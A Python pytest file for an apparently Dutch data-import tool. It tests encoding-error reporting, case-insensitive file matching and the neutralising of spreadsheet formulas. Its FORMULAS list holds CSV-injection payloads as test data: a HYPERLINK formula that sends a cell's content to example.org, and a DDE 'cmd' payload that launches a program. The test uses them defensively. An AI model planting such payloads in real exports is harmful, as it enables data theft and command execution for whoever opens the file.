# SPDX-License-Identifier: EUPL-1.2
"""The folder and the bytes: file names in any case, the exact place of a byte that is not
UTF-8, and cells that would run as spreadsheet formulas in the report people open."""

from __future__ import annotations

import pytest

from werkspoor.exchange.exporter import export_directory
from werkspoor.exchange.reader import _CHUNK, UnusableInput, count_lines_and_check_encoding
from werkspoor.registry.models import Contactmoment, Kind

from .conftest import append_row, read_csv, run_import, set_cell
from .test_commands import _one_sentence, _werkspoor

pytestmark = pytest.mark.django_db

HEADER = b"werkgever_id,naam,sector\n"


def _rows(n: int) -> bytes:
    return b"".join(b"G%06d,Werkgever %06d,horeca\n" % (i, i) for i in range(n))


@pytest.mark.parametrize("line", [41, 200_000])
def test_a_latin1_byte_is_reported_on_its_true_line_and_byte_offset(capsys, folder, line):
    before = HEADER + _rows(line - 2)  # the header is line 1
    (folder / "werkgevers.csv").write_bytes(before + b"G999999,Caf\xe9 De Zon,horeca\n" + _rows(5))
    code, _out, err = _werkspoor(capsys, "import", str(folder), "--stil")
    assert code == 2 and _one_sentence(err)
    offset = len(before) + len(b"G999999,Caf")
    assert f"werkgevers.csv is geen UTF-8-tekst: regel {line} bevat byte 0xE9" in err
    assert f"(byte-offset {offset} in het bestand" in err
    assert line < 1000 or offset > _CHUNK  # the second case crosses the 1 MiB read chunk


def test_a_character_split_over_the_read_chunks_is_fine_and_a_broken_one_is_found(tmp_path):
    path = tmp_path / "x.csv"
    path.write_bytes(b"a" * (_CHUNK - 1) + "é\n".encode())  # é's two bytes in two chunks
    assert count_lines_and_check_encoding(path) == 1
    path.write_bytes(b"a\n" * 3 + b"b" * (_CHUNK - 7) + b"\xc3\n")  # é cut off by a line break
    with pytest.raises(
        UnusableInput, match=rf"regel 4 bevat byte 0xC3 \(byte-offset {_CHUNK - 1} "
    ):
        count_lines_and_check_encoding(path)
    path.write_bytes(b"ok\n" + "é".encode()[:1])  # the file ends inside a character
    with pytest.raises(UnusableInput, match=r"regel 2 bevat byte 0xC3 \(byte-offset 3 "):
        count_lines_and_check_encoding(path)


def test_file_names_are_matched_whatever_their_case(capsys, folder):
    (folder / "kinderen.csv").rename(folder / "kinderen.CSV")
    (folder / "teams.csv").rename(folder / "Teams.Csv")
    code, out, _err = _werkspoor(capsys, "import", str(folder), "--stil")
    assert code == 0 and "kinderen.CSV" in out and "Teams.Csv" in out
    assert "Niet aanwezig" not in out and Kind.objects.exists()


def test_two_names_that_differ_only_in_case_are_refused(capsys, folder):
    (folder / "kinderen.CSV").write_bytes((folder / "kinderen.csv").read_bytes())
    code, _out, err = _werkspoor(capsys, "import", str(folder), "--stil")
    assert code == 2 and "dezelfde naam in andere hoofdletters" in err
    assert "kinderen.CSV" in err and "kinderen.csv" in err


def test_every_file_that_does_not_belong_is_named(capsys, folder):
    (folder / "klanten.CSV").write_text("a,b\n", encoding="utf-8")
    (folder / "inwoners.xlsx").write_bytes(b"PK")
    (folder / ".DS_Store").write_bytes(b"")
    code, out, _err = _werkspoor(capsys, "import", str(folder), "--stil")
    assert code == 0
    assert "klanten.CSV hoort niet bij het uitwisselformaat" in out
    assert "inwoners.xlsx hoort niet bij het uitwisselformaat" in out
    assert ".DS_Store" not in out


FORMULAS = ['=HYPERLINK("https://example.org/?d="&A1,"klik")', "=cmd|' /C calc'!A0", "@SUM(1)"]


def test_formulas_in_rejected_rows_reach_the_report_neutralised(folder):
    for n, formula in enumerate(FORMULAS, start=2):
        set_cell(folder, "kto.csv", n, "cijfer", formula)
    line = append_row(folder, "kto.csv", {"respons_id": "-1+1", "datum": "x", "thema": "werk"})
    run_import(folder)
    rows = read_csv(folder / "afgewezen.csv")
    values = {row[3] for row in rows[1:]}
    assert {"'" + f for f in FORMULAS} <= values
    original = next(row[5] for row in rows if row[1] == str(line))  # the whole row, to fix
    assert original.startswith("'-1+1,x,werk")
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_the_exchange_export_keeps_a_formula_like_value_exactly(folder, tmp_path):
    set_cell(folder, "contactmomenten.csv", 2, "notitie", "=1+1 en -2")
    run_import(folder)
    assert Contactmoment.objects.filter(notitie="=1+1 en -2").exists()
    export_directory(tmp_path / "uit")
    assert "=1+1 en -2" in (tmp_path / "uit" / "contactmomenten.csv").read_text(encoding="utf-8")
